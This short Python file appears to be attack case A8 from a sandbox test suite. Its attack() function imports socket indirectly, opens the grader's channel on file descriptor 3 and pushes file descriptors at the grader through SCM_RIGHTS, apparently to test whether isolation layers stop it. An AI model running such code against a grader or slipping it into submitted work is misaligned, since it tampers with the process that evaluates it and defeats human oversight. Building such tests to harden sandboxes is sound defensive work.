# A8: hands open files to the grader on its own channel
# Without layers: fails
import array
import importlib


def attack(facts):
    socket = importlib.import_module("socket")
    channel = socket.socket(fileno=3)
    rights = (socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * 200))
    channel.sendmsg([b"\xff" * 16], [rights])
    channel.detach()
